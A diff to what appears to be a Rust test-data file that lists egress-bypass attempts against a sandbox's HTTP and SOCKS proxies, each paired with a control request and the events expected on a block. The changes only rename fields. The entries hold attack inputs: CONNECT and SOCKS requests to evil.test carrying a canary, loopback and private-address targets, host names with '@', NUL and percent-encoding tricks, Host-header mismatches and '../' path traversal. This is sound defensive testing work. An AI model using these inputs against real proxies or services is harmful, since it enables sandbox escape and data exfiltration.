@@ -1,6 +1,6 @@
 //! What is asked of the proxies and of the API that is passed through. Only data.
 
-use crate::attempt::{ALLOWED, Attempt, BASE, Class, Told, Twin};
+use crate::attempt::{ALLOWED, Attempt, BASE, Class, Control, Evidence};
 
 const CLASS: Class = Class::Proxies;
 
@@ -11,7 +11,7 @@ pub const ATTEMPTS: &[Attempt] = &[
         class: CLASS,
         what: "CONNECT to a host that no rule names",
         call: &["{attempt}", "through_connect", "target=evil.test:80", "host=evil.test", "path=/{canary}"],
-        twin: Twin::Options(&["--allow", "evil.test"]),
+        control: Control::Options(&["--allow", "evil.test"]),
         ..BASE
     },
     Attempt {
@@ -19,8 +19,8 @@ pub const ATTEMPTS: &[Attempt] = &[
         class: CLASS,
         what: "CONNECT to another port",
         call: &["{attempt}", "through_connect", "target=allowed.test:8080", "path=/{canary}"],
-        told: Told::Event(&["port_not_allowed"]),
-        twin: Twin::Options(&["--allow", "allowed.test:8080"]),
+        evidence: Evidence::Event(&["port_not_allowed"]),
+        control: Control::Options(&["--allow", "allowed.test:8080"]),
         ..BASE
     },
     Attempt {
@@ -28,7 +28,7 @@ pub const ATTEMPTS: &[Attempt] = &[
         class: CLASS,
         what: "CONNECT to the allowed host's address",
         call: &["{attempt}", "through_connect", "target=93.184.216.34:80", "host=93.184.216.34", "path=/{canary}"],
-        twin: Twin::Options(&["--allow", "93.184.216.34"]),
+        control: Control::Options(&["--allow", "93.184.216.34"]),
         ..BASE
     },
     Attempt {
@@ -36,8 +36,8 @@ pub const ATTEMPTS: &[Attempt] = &[
         class: CLASS,
         what: "CONNECT to a private address",
         call: &["{attempt}", "through_connect", "target=10.1.2.3:80", "path=/{canary}"],
-        told: Told::Event(&["not_allowed", "address_not_public"]),
-        twin: Twin::Both(
+        evidence: Evidence::Event(&["not_allowed", "address_not_public"]),
+        control: Control::Both(
             &["--allow", "10.1.2.3"],
             &["{attempt}", "through_connect", "target=10.1.2.3:80", "host=10.1.2.3", "path=/{canary}"],
         ),
@@ -48,8 +48,8 @@ pub const ATTEMPTS: &[Attempt] = &[
         class: CLASS,
         what: "CONNECT to 127.0.0.1",
         call: &["{attempt}", "through_connect", "target=127.0.0.1:80", "path=/{canary}"],
-        told: Told::Event(&["not_allowed", "address_not_public", "bad_name"]),
-        twin: Twin::Call(&["{attempt}", "through_connect", "target=allowed.test:80", "path=/{canary}"]),
+        evidence: Evidence::Event(&["not_allowed", "address_not_public", "bad_name"]),
+        control: Control::Call(&["{attempt}", "through_connect", "target=allowed.test:80", "path=/{canary}"]),
         ..BASE
     },
     Attempt {
@@ -57,8 +57,8 @@ pub const ATTEMPTS: &[Attempt] = &[
         class: CLASS,
         what: "CONNECT to localhost",
         call: &["{attempt}", "through_connect", "target=localhost:80", "path=/{canary}"],
-        told: Told::Event(&["bad_name", "bad_request", "not_allowed"]),
-        twin: Twin::Call(&["{attempt}", "through_connect", "target=allowed.test:80", "path=/{canary}"]),
+        evidence: Evidence::Event(&["bad_name", "bad_request", "not_allowed"]),
+        control: Control::Call(&["{attempt}", "through_connect", "target=allowed.test:80", "path=/{canary}"]),
         ..BASE
     },
     Attempt {
@@ -66,8 +66,8 @@ pub const ATTEMPTS: &[Attempt] = &[
         class: CLASS,
         what: "CONNECT with a user: `allowed.test@evil.test`",
         call: &["{attempt}", "through_connect", "target=allowed.test@evil.test:80", "path=/{canary}"],
-        told: Told::Event(&["bad_name", "bad_request", "not_allowed"]),
-        twin: Twin::Call(&["{attempt}", "through_connect", "target=allowed.test:80", "path=/{canary}"]),
+        evidence: Evidence::Event(&["bad_name", "bad_request", "not_allowed"]),
+        control: Control::Call(&["{attempt}", "through_connect", "target=allowed.test:80", "path=/{canary}"]),
         ..BASE
     },
     Attempt {
@@ -75,8 +75,8 @@ pub const ATTEMPTS: &[Attempt] = &[
         class: CLASS,
         what: "CONNECT to `allowed.test:80@evil.test`",
         call: &["{attempt}", "through_connect", "target=allowed.test:80@evil.test:80", "path=/{canary}"],
-        told: Told::Event(&["bad_name", "bad_request", "not_allowed"]),
-        twin: Twin::Call(&["{attempt}", "through_connect", "target=allowed.test:80", "path=/{canary}"]),
+        evidence: Evidence::Event(&["bad_name", "bad_request", "not_allowed"]),
+        control: Control::Call(&["{attempt}", "through_connect", "target=allowed.test:80", "path=/{canary}"]),
         ..BASE
     },
     Attempt {
@@ -84,8 +84,8 @@ pub const ATTEMPTS: &[Attempt] = &[
         class: CLASS,
         what: "CONNECT to a name with a NUL",
         call: &["{attempt}", "through_connect", "target=allowed.test\\x00.evil.test:80", "path=/{canary}"],
-        told: Told::Event(&["bad_name", "bad_request", "not_allowed"]),
-        twin: Twin::Call(&["{attempt}", "through_connect", "target=allowed.test:80", "path=/{canary}"]),
+        evidence: Evidence::Event(&["bad_name", "bad_request", "not_allowed"]),
+        control: Control::Call(&["{attempt}", "through_connect", "target=allowed.test:80", "path=/{canary}"]),
         ..BASE
     },
     Attempt {
@@ -93,8 +93,8 @@ pub const ATTEMPTS: &[Attempt] = &[
         class: CLASS,
         what: "CONNECT to a name with a space",
         call: &["{attempt}", "through_connect", "target=allowed.test evil.test:80", "path=/{canary}"],
-        told: Told::Event(&["bad_name", "bad_request", "not_allowed"]),
-        twin: Twin::Call(&["{attempt}", "through_connect", "target=allowed.test:80", "path=/{canary}"]),
+        evidence: Evidence::Event(&["bad_name", "bad_request", "not_allowed"]),
+        control: Control::Call(&["{attempt}", "through_connect", "target=allowed.test:80", "path=/{canary}"]),
         ..BASE
     },
     Attempt {
@@ -102,8 +102,8 @@ pub const ATTEMPTS: &[Attempt] = &[
         class: CLASS,
         what: "CONNECT to an address with a zone",
         call: &["{attempt}", "through_connect", "target=[fe80::1%25lo]:80", "path=/{canary}"],
-        told: Told::Event(&["bad_name", "bad_request", "not_allowed", "address_not_public"]),
-        twin: Twin::Call(&["{attempt}", "through_connect", "target=allowed.test:80", "path=/{canary}"]),
+        evidence: Evidence::Event(&["bad_name", "bad_request", "not_allowed", "address_not_public"]),
+        control: Control::Call(&["{attempt}", "through_connect", "target=allowed.test:80", "path=/{canary}"]),
         ..BASE
     },
     Attempt {
@@ -111,8 +111,8 @@ pub const ATTEMPTS: &[Attempt] = &[
         class: CLASS,
         what: "CONNECT to ::ffff:10.1.2.3",
         call: &["{attempt}", "through_connect", "target=[::ffff:10.1.2.3]:80", "path=/{canary}"],
-        told: Told::Event(&["bad_name", "bad_request", "not_allowed", "address_not_public"]),
-        twin: Twin::Call(&["{attempt}", "through_connect", "target=allowed.test:80", "path=/{canary}"]),
+        evidence: Evidence::Event(&["bad_name", "bad_request", "not_allowed", "address_not_public"]),
+        control: Control::Call(&["{attempt}", "through_connect", "target=allowed.test:80", "path=/{canary}"]),
         ..BASE
     },
     Attempt {
@@ -120,8 +120,8 @@ pub const ATTEMPTS: &[Attempt] = &[
         class: CLASS,
         what: "CONNECT to a percent-encoded name",
         call: &["{attempt}", "through_connect", "target=%65vil.test:80", "path=/{canary}"],
-        told: Told::Event(&["bad_name", "bad_request", "not_allowed"]),
-        twin: Twin::Call(&["{attempt}", "through_connect", "target=allowed.test:80", "path=/{canary}"]),
+        evidence: Evidence::Event(&["bad_name", "bad_request", "not_allowed"]),
+        control: Control::Call(&["{attempt}", "through_connect", "target=allowed.test:80", "path=/{canary}"]),
         ..BASE
     },
     Attempt {
@@ -129,8 +129,8 @@ pub const ATTEMPTS: &[Attempt] = &[
         class: CLASS,
         what: "CONNECT to `evil.test:80/allowed.test`",
         call: &["{attempt}", "through_connect", "target=evil.test:80/allowed.test:80", "path=/{canary}"],
-        told: Told::Event(&["bad_name", "bad_request", "not_allowed"]),
-        twin: Twin::Call(&["{attempt}", "through_connect", "target=allowed.test:80", "path=/{canary}"]),
+        evidence: Evidence::Event(&["bad_name", "bad_request", "not_allowed"]),
+        control: Control::Call(&["{attempt}", "through_connect", "target=allowed.test:80", "path=/{canary}"]),
         ..BASE
     },
     Attempt {
@@ -138,8 +138,8 @@ pub const ATTEMPTS: &[Attempt] = &[
         class: CLASS,
         what: "CONNECT to `evil.test#allowed.test`",
         call: &["{attempt}", "through_connect", "target=evil.test#allowed.test:80", "path=/{canary}"],
-        told: Told::Event(&["bad_name", "bad_request", "not_allowed"]),
-        twin: Twin::Call(&["{attempt}", "through_connect", "target=allowed.test:80", "path=/{canary}"]),
+        evidence: Evidence::Event(&["bad_name", "bad_request", "not_allowed"]),
+        control: Control::Call(&["{attempt}", "through_connect", "target=allowed.test:80", "path=/{canary}"]),
         ..BASE
     },
     Attempt {
@@ -153,8 +153,8 @@ pub const ATTEMPTS: &[Attempt] = &[
             "port=3128",
             "send=CONNECT evil.test:80 HTTP/1.1\\r\\nHost: allowed.test:80\\r\\n\\r\\nGET /{canary} HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n",
         ],
-        told: Told::Event(&["not_allowed", "host_mismatch", "bad_request"]),
-        twin: Twin::Call(&["{attempt}", "through_connect", "target=allowed.test:80", "path=/{canary}"]),
+        evidence: Evidence::Event(&["not_allowed", "host_mismatch", "bad_request"]),
+        control: Control::Call(&["{attempt}", "through_connect", "target=allowed.test:80", "path=/{canary}"]),
         ..BASE
     },
     Attempt {
@@ -170,10 +170,10 @@ pub const ATTEMPTS: &[Attempt] = &[
             "path=/{canary}",
         ],
         wants: "delivered evil",
-        told: Told::Event(&["bad_request", "host_mismatch", "method_not_allowed"]),
+        evidence: Evidence::Event(&["bad_request", "host_mismatch", "method_not_allowed"]),
         may: ALLOWED,
-        twin: Twin::Call(&["{attempt}", "through_connect", "target=allowed.test:80", "path=/{canary}"]),
-        twin_wants: "delivered",
+        control: Control::Call(&["{attempt}", "through_connect", "target=allowed.test:80", "path=/{canary}"]),
+        control_wants: "delivered",
         ..BASE
     },
     Attempt {
@@ -188,8 +188,8 @@ pub const ATTEMPTS: &[Attempt] = &[
             "host=evil.test",
             "path=/{canary}",
         ],
-        told: Told::Event(&["not_allowed", "address_not_public", "bad_name"]),
-        twin: Twin::Call(&["{attempt}", "through_connect", "target=allowed.test:80", "path=/{canary}"]),
+        evidence: Evidence::Event(&["not_allowed", "address_not_public", "bad_name"]),
+        control: Control::Call(&["{attempt}", "through_connect", "target=allowed.test:80", "path=/{canary}"]),
         ..BASE
     },
     Attempt {
@@ -197,8 +197,8 @@ pub const ATTEMPTS: &[Attempt] = &[
         class: CLASS,
         what: "CONNECT to the SOCKS proxy",
         call: &["{attempt}", "through_connect", "target=127.0.0.1:1080", "path=/{canary}"],
-        told: Told::Event(&["not_allowed", "address_not_public", "bad_name"]),
-        twin: Twin::Call(&["{attempt}", "through_connect", "target=allowed.test:80", "path=/{canary}"]),
+        evidence: Evidence::Event(&["not_allowed", "address_not_public", "bad_name"]),
+        control: Control::Call(&["{attempt}", "through_connect", "target=allowed.test:80", "path=/{canary}"]),
         ..BASE
     },
     Attempt {
@@ -206,9 +206,9 @@ pub const ATTEMPTS: &[Attempt] = &[
         class: CLASS,
         what: "Another Host inside a CONNECT tunnel",
         call: &["{attempt}", "through_connect", "target=allowed.test:80", "host=other.test", "path=/{canary}"],
-        told: Told::Event(&["host_mismatch"]),
+        evidence: Evidence::Event(&["host_mismatch"]),
         may: ALLOWED,
-        twin: Twin::Call(&["{attempt}", "through_connect", "target=allowed.test:80", "path=/{canary}"]),
+        control: Control::Call(&["{attempt}", "through_connect", "target=allowed.test:80", "path=/{canary}"]),
         ..BASE
     },
     Attempt {
@@ -222,7 +222,7 @@ pub const ATTEMPTS: &[Attempt] = &[
             "port=3128",
             "send=GET http://evil.test/{canary} HTTP/1.1\\r\\nHost: evil.test\\r\\nConnection: close\\r\\n\\r\\n",
         ],
-        twin: Twin::Options(&["--allow", "evil.test"]),
+        control: Control::Options(&["--allow", "evil.test"]),
         ..BASE
     },
     Attempt {
@@ -236,9 +236,9 @@ pub const ATTEMPTS: &[Attempt] = &[
             "port=3128",
             "send=GET http://allowed.test/{canary} HTTP/1.1\\r\\nHost: other.test\\r\\nConnection: close\\r\\n\\r\\n",
         ],
-        told: Told::Event(&["bad_request", "host_mismatch"]),
+        evidence: Evidence::Event(&["bad_request", "host_mismatch"]),
         may: ALLOWED,
-        twin: Twin::Call(&[
+        control: Control::Call(&[
             "{attempt}",
             "raw",
             "to=127.0.0.1",
@@ -258,8 +258,8 @@ pub const ATTEMPTS: &[Attempt] = &[
             "port=3128",
             "send=GET http://allowed.test:8080/{canary} HTTP/1.1\\r\\nHost: allowed.test:8080\\r\\nConnection: close\\r\\n\\r\\n",
         ],
-        told: Told::Event(&["port_not_allowed"]),
-        twin: Twin::Options(&["--allow", "allowed.test:8080"]),
+        evidence: Evidence::Event(&["port_not_allowed"]),
+        control: Control::Options(&["--allow", "allowed.test:8080"]),
         ..BASE
     },
     Attempt {
@@ -275,7 +275,7 @@ pub const ATTEMPTS: &[Attempt] = &[
         ],
         wants: "{canary}",
         may: ALLOWED,
-        twin: Twin::Call(&[
+        control: Control::Call(&[
             "{attempt}",
             "raw",
             "to=127.0.0.1",
@@ -295,8 +295,8 @@ pub const ATTEMPTS: &[Attempt] = &[
             "port=3128",
             "send=GET http://allowed.test@evil.test/{canary} HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n",
         ],
-        told: Told::Event(&["bad_name", "bad_request", "not_allowed", "host_mismatch"]),
-        twin: Twin::Call(&[
+        evidence: Evidence::Event(&["bad_name", "bad_request", "not_allowed", "host_mismatch"]),
+        control: Control::Call(&[
             "{attempt}",
             "raw",
             "to=127.0.0.1",
@@ -316,9 +316,9 @@ pub const ATTEMPTS: &[Attempt] = &[
             "port=3128",
             "send=GET ftp://allowed.test/{canary} HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\n",
         ],
-        told: Told::Event(&["bad_request", "not_allowed"]),
+        evidence: Evidence::Event(&["bad_request", "not_allowed"]),
         may: ALLOWED,
-        twin: Twin::Call(&[
+        control: Control::Call(&[
             "{attempt}",
             "raw",
             "to=127.0.0.1",
@@ -338,8 +338,8 @@ pub const ATTEMPTS: &[Attempt] = &[
             "port=3128",
             "send=GET /{canary} HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n",
         ],
-        told: Told::Event(&["bad_request", "not_allowed", "host_mismatch"]),
-        twin: Twin::Call(&[
+        evidence: Evidence::Event(&["bad_request", "not_allowed", "host_mismatch"]),
+        control: Control::Call(&[
             "{attempt}",
             "raw",
             "to=127.0.0.1",
@@ -353,11 +353,11 @@ pub const ATTEMPTS: &[Attempt] = &[
         class: CLASS,
         what: "The proxy by 127.0.0.2",
         call: &["{attempt}", "through_connect", "target=allowed.test:80", "proxy=127.0.0.2:3128", "path=/{canary}"],
-        told: Told::Any(
+        evidence: Evidence::Any(
             &["not_allowed", "address_not_public", "unknown_address", "port_not_allowed"],
             &["ECONNREFUSED", "ECONNRESET"],
         ),
-        twin: Twin::Call(&["{attempt}", "through_connect", "target=allowed.test:80", "path=/{canary}"]),
+        control: Control::Call(&["{attempt}", "through_connect", "target=allowed.test:80", "path=/{canary}"]),
         ..BASE
     },
     Attempt {
@@ -365,11 +365,11 @@ pub const ATTEMPTS: &[Attempt] = &[
         class: CLASS,
         what: "The proxy by ::1",
         call: &["{attempt}", "through_connect", "target=allowed.test:80", "proxy=[::1]:3128", "path=/{canary}"],
-        told: Told::Any(
+        evidence: Evidence::Any(
             &["not_allowed", "address_not_public", "unknown_address", "port_not_allowed"],
             &["ECONNREFUSED", "ECONNRESET"],
         ),
-        twin: Twin::Call(&["{attempt}", "through_connect", "target=allowed.test:80", "path=/{canary}"]),
+        control: Control::Call(&["{attempt}", "through_connect", "target=allowed.test:80", "path=/{canary}"]),
         ..BASE
     },
     Attempt {
@@ -377,11 +377,11 @@ pub const ATTEMPTS: &[Attempt] = &[
         class: CLASS,
         what: "A proxy on another host",
         call: &["{attempt}", "through_connect", "target=allowed.test:80", "proxy=93.184.216.66:3128", "path=/{canary}"],
-        told: Told::Any(
+        evidence: Evidence::Any(
             &["not_allowed", "address_not_public", "unknown_address", "port_not_allowed"],
             &["ECONNREFUSED", "ECONNRESET"],
         ),
-        twin: Twin::Call(&["{attempt}", "through_connect", "target=allowed.test:80", "path=/{canary}"]),
+        control: Control::Call(&["{attempt}", "through_connect", "target=allowed.test:80", "path=/{canary}"]),
         ..BASE
     },
     Attempt {
@@ -389,7 +389,7 @@ pub const ATTEMPTS: &[Attempt] = &[
         class: CLASS,
         what: "SOCKS to a name that no rule has",
         call: &["{attempt}", "socks5", "kind=name", "to=evil.test", "path=/{canary}"],
-        twin: Twin::Options(&["--allow", "evil.test"]),
+        control: Control::Options(&["--allow", "evil.test"]),
         ..BASE
     },
     Attempt {
@@ -397,7 +397,7 @@ pub const ATTEMPTS: &[Attempt] = &[
         class: CLASS,
         what: "SOCKS to an address that no rule has",
         call: &["{attempt}", "socks5", "kind=4", "to=93.184.216.66", "path=/{canary}"],
-        twin: Twin::Options(&["--allow", "93.184.216.66"]),
+        control: Control::Options(&["--allow", "93.184.216.66"]),
         ..BASE
     },
     Attempt {
@@ -405,8 +405,8 @@ pub const ATTEMPTS: &[Attempt] = &[
         class: CLASS,
         what: "SOCKS to an address in the place of a name",
         call: &["{attempt}", "socks5", "kind=name", "to=93.184.216.66", "path=/{canary}"],
-        told: Told::Event(&["not_allowed", "bad_name"]),
-        twin: Twin::Both(
+        evidence: Evidence::Event(&["not_allowed", "bad_name"]),
+        control: Control::Both(
             &["--allow", "93.184.216.66"],
             &["{attempt}", "socks5", "kind=4", "to=93.184.216.66", "path=/{canary}"],
         ),
@@ -417,7 +417,7 @@ pub const ATTEMPTS: &[Attempt] = &[
         class: CLASS,
         what: "SOCKS to an IPv6 address",
         call: &["{attempt}", "socks5", "kind=6", "to=2606:2800::66", "host=x", "path=/{canary}"],
-        twin: Twin::Both(
+        control: Control::Both(
             &["--allow", "[2606:2800::66]:80"],
             &["{attempt}", "socks5", "kind=6", "to=2606:2800::66", "host=[2606:2800::66]", "path=/{canary}"],
         ),
@@ -428,8 +428,8 @@ pub const ATTEMPTS: &[Attempt] = &[
         class: CLASS,
         what: "SOCKS to ::ffff:10.1.2.3",
         call: &["{attempt}", "socks5", "kind=6", "to=::ffff:10.1.2.3", "host=x", "path=/{canary}"],
-        told: Told::Event(&["not_allowed", "address_not_public"]),
-        twin: Twin::Call(&["{attempt}", "socks5", "kind=name", "to=allowed.test", "path=/{canary}"]),
+        evidence: Evidence::Event(&["not_allowed", "address_not_public"]),
+        control: Control::Call(&["{attempt}", "socks5", "kind=name", "to=allowed.test", "path=/{canary}"]),
         ..BASE
     },
     Attempt {
@@ -437,8 +437,8 @@ pub const ATTEMPTS: &[Attempt] = &[
         class: CLASS,
         what: "SOCKS to 127.0.0.1",
         call: &["{attempt}", "socks5", "kind=4", "to=127.0.0.1", "path=/{canary}"],
-        told: Told::Event(&["not_allowed", "address_not_public"]),
-        twin: Twin::Call(&["{attempt}", "socks5", "kind=name", "to=allowed.test", "path=/{canary}"]),
+        evidence: Evidence::Event(&["not_allowed", "address_not_public"]),
+        control: Control::Call(&["{attempt}", "socks5", "kind=name", "to=allowed.test", "path=/{canary}"]),
         ..BASE
     },
     Attempt {
@@ -446,8 +446,8 @@ pub const ATTEMPTS: &[Attempt] = &[
         class: CLASS,
         what: "SOCKS to another port",
         call: &["{attempt}", "socks5", "kind=name", "to=allowed.test", "port=8080", "path=/{canary}"],
-        told: Told::Event(&["port_not_allowed"]),
-        twin: Twin::Options(&["--allow", "allowed.test:8080"]),
+        evidence: Evidence::Event(&["port_not_allowed"]),
+        control: Control::Options(&["--allow", "allowed.test:8080"]),
         ..BASE
     },
     Attempt {
@@ -455,8 +455,8 @@ pub const ATTEMPTS: &[Attempt] = &[
         class: CLASS,
         what: "SOCKS to a name with a NUL",
         call: &["{attempt}", "socks5", "kind=name", "to=allowed.test\\x00.evil.test", "path=/{canary}"],
-        told: Told::Event(&["bad_name", "bad_proxy_request"]),
-        twin: Twin::Call(&["{attempt}", "socks5", "kind=name", "to=allowed.test", "path=/{canary}"]),
+        evidence: Evidence::Event(&["bad_name", "bad_proxy_request"]),
+        control: Control::Call(&["{attempt}", "socks5", "kind=name", "to=allowed.test", "path=/{canary}"]),
         ..BASE
     },
     Attempt {
@@ -465,9 +465,9 @@ pub const ATTEMPTS: &[Attempt] = &[
         what: "SOCKS UDP ASSOCIATE",
         call: &["{attempt}", "socks5", "kind=name", "to=allowed.test", "command=3", "path=/{canary}"],
         wants: "socks accepted",
-        told: Told::Event(&["bad_proxy_request"]),
-        twin: Twin::Call(&["{attempt}", "socks5", "kind=name", "to=allowed.test", "path=/{canary}"]),
-        twin_wants: "delivered",
+        evidence: Evidence::Event(&["bad_proxy_request"]),
+        control: Control::Call(&["{attempt}", "socks5", "kind=name", "to=allowed.test", "path=/{canary}"]),
+        control_wants: "delivered",
         ..BASE
     },
     Attempt {
@@ -476,9 +476,9 @@ pub const ATTEMPTS: &[Attempt] = &[
         what: "SOCKS BIND",
         call: &["{attempt}", "socks5", "kind=name", "to=allowed.test", "command=2", "path=/{canary}"],
         wants: "socks accepted",
-        told: Told::Event(&["bad_proxy_request"]),
-        twin: Twin::Call(&["{attempt}", "socks5", "kind=name", "to=allowed.test", "path=/{canary}"]),
-        twin_wants: "delivered",
+        evidence: Evidence::Event(&["bad_proxy_request"]),
+        control: Control::Call(&["{attempt}", "socks5", "kind=name", "to=allowed.test", "path=/{canary}"]),
+        control_wants: "delivered",
         ..BASE
     },
     Attempt {
@@ -486,8 +486,8 @@ pub const ATTEMPTS: &[Attempt] = &[
         class: CLASS,
         what: "SOCKS 4",
         call: &["{attempt}", "socks4", "to=93.184.216.66", "path=/{canary}"],
-        told: Told::Event(&["bad_proxy_request"]),
-        twin: Twin::Call(&["{attempt}", "socks5", "kind=name", "to=allowed.test", "path=/{canary}"]),
+        evidence: Evidence::Event(&["bad_proxy_request"]),
+        control: Control::Call(&["{attempt}", "socks5", "kind=name", "to=allowed.test", "path=/{canary}"]),
         ..BASE
     },
     Attempt {
@@ -495,8 +495,8 @@ pub const ATTEMPTS: &[Attempt] = &[
         class: CLASS,
         what: "SOCKS 4a",
         call: &["{attempt}", "socks4", "to=0.0.0.1", "name=evil.test", "path=/{canary}"],
-        told: Told::Event(&["bad_proxy_request"]),
-        twin: Twin::Call(&["{attempt}", "socks5", "kind=name", "to=allowed.test", "path=/{canary}"]),
+        evidence: Evidence::Event(&["bad_proxy_request"]),
+        control: Control::Call(&["{attempt}", "socks5", "kind=name", "to=allowed.test", "path=/{canary}"]),
         ..BASE
     },
     Attempt {
@@ -504,9 +504,9 @@ pub const ATTEMPTS: &[Attempt] = &[
         class: CLASS,
         what: "Another Host inside a SOCKS tunnel",
         call: &["{attempt}", "socks5", "kind=name", "to=allowed.test", "host=other.test", "path=/{canary}"],
-        told: Told::Event(&["host_mismatch"]),
+        evidence: Evidence::Event(&["host_mismatch"]),
         may: ALLOWED,
-        twin: Twin::Call(&["{attempt}", "socks5", "kind=name", "to=allowed.test", "path=/{canary}"]),
+        control: Control::Call(&["{attempt}", "socks5", "kind=name", "to=allowed.test", "path=/{canary}"]),
         ..BASE
     },
     Attempt {
@@ -515,11 +515,11 @@ pub const ATTEMPTS: &[Attempt] = &[
         what: "Another port of the host beside the API that is passed through",
         options: &["--api", "ISCL_API_URL=http://127.0.0.1:3000/v1"],
         call: &["{attempt}", "http", "to=127.0.0.1", "port=3000", "path=/{canary}"],
-        told: Told::Any(
+        evidence: Evidence::Any(
             &["not_allowed", "address_not_public", "unknown_address", "port_not_allowed"],
             &["ECONNREFUSED", "ECONNRESET"],
         ),
-        twin: Twin::Call(&["{attempt}", "http", "to=127.0.0.1", "port=3129", "path=/{canary}"]),
+        control: Control::Call(&["{attempt}", "http", "to=127.0.0.1", "port=3129", "path=/{canary}"]),
         ..BASE
     },
     Attempt {
@@ -528,8 +528,8 @@ pub const ATTEMPTS: &[Attempt] = &[
         what: "A path above the API's own",
         options: &["--api", "ISCL_API_URL=http://127.0.0.1:3000/v1"],
         call: &["{attempt}", "http", "to=127.0.0.1", "port=3129", "path=/../{canary}"],
-        told: Told::Event(&["bad_request", "path_not_allowed"]),
-        twin: Twin::Call(&["{attempt}", "http", "to=127.0.0.1", "port=3129", "path=/{canary}"]),
+        evidence: Evidence::Event(&["bad_request", "path_not_allowed"]),
+        control: Control::Call(&["{attempt}", "http", "to=127.0.0.1", "port=3129", "path=/{canary}"]),
         ..BASE
     },
     Attempt {
@@ -538,8 +538,8 @@ pub const ATTEMPTS: &[Attempt] = &[
         what: "The same, encoded",
         options: &["--api", "ISCL_API_URL=http://127.0.0.1:3000/v1"],
         call: &["{attempt}", "http", "to=127.0.0.1", "port=3129", "path=/%2e%2e/{canary}"],
-        told: Told::Event(&["bad_request", "path_not_allowed"]),
-        twin: Twin::Call(&["{attempt}", "http", "to=127.0.0.1", "port=3129", "path=/{canary}"]),
+        evidence: Evidence::Event(&["bad_request", "path_not_allowed"]),
+        control: Control::Call(&["{attempt}", "http", "to=127.0.0.1", "port=3129", "path=/{canary}"]),
         ..BASE
     },
     Attempt {
@@ -554,8 +554,8 @@ pub const ATTEMPTS: &[Attempt] = &[
             "port=3129",
             "send=GET http://evil.test/{canary} HTTP/1.1\\r\\nHost: evil.test\\r\\nConnection: close\\r\\n\\r\\n",
         ],
-        told: Told::Event(&["bad_request", "host_mismatch", "not_allowed"]),
-        twin: Twin::Call(&["{attempt}", "http", "to=127.0.0.1", "port=3129", "path=/{canary}"]),
+        evidence: Evidence::Event(&["bad_request", "host_mismatch", "not_allowed"]),
+        control: Control::Call(&["{attempt}", "http", "to=127.0.0.1", "port=3129", "path=/{canary}"]),
         ..BASE
     },
     Attempt {
@@ -564,7 +564,7 @@ pub const ATTEMPTS: &[Attempt] = &[
         what: "A host that no rule names, where connections go out by an upstream proxy",
         options: &["--allow", "allowed.test", "--upstream-proxy", "http://user:secret@93.184.216.90:8080"],
         call: &["{attempt}", "http", "to=evil.test", "path=/{canary}"],
-        twin: Twin::Call(&["{attempt}", "http", "to=allowed.test", "path=/{canary}"]),
+        control: Control::Call(&["{attempt}", "http", "to=allowed.test", "path=/{canary}"]),
         ..BASE
     },
     Attempt {
@@ -573,11 +573,11 @@ pub const ATTEMPTS: &[Attempt] = &[
         what: "The upstream proxy itself",
         options: &["--allow", "allowed.test", "--upstream-proxy", "http://user:secret@93.184.216.90:8080"],
         call: &["{attempt}", "through_connect", "target=evil.test:80", "proxy=93.184.216.90:8080", "path=/{canary}"],
-        told: Told::Any(
+        evidence: Evidence::Any(
             &["not_allowed", "address_not_public", "unknown_address", "port_not_allowed"],
             &["ECONNREFUSED", "ECONNRESET"],
         ),
-        twin: Twin::Call(&["{attempt}", "http", "to=allowed.test", "path=/{canary}"]),
+        control: Control::Call(&["{attempt}", "http", "to=allowed.test", "path=/{canary}"]),
         ..BASE
     },
     Attempt {
@@ -586,9 +586,9 @@ pub const ATTEMPTS: &[Attempt] = &[
         what: "Another name in TLS, by an upstream proxy",
         options: &["--allow", "allowed.test", "--upstream-proxy", "http://user:secret@93.184.216.90:8080"],
         call: &["{attempt}", "tls", "to=allowed.test", "sni=other.test", "path=/{canary}"],
-        told: Told::Event(&["server_name_mismatch"]),
+        evidence: Evidence::Event(&["server_name_mismatch"]),
         may: &["93.184.216.90"],
-        twin: Twin::Call(&["{attempt}", "tls", "to=allowed.test", "sni=allowed.test", "path=/{canary}"]),
+        control: Control::Call(&["{attempt}", "tls", "to=allowed.test", "sni=allowed.test", "path=/{canary}"]),
         ..BASE
     },
 ];
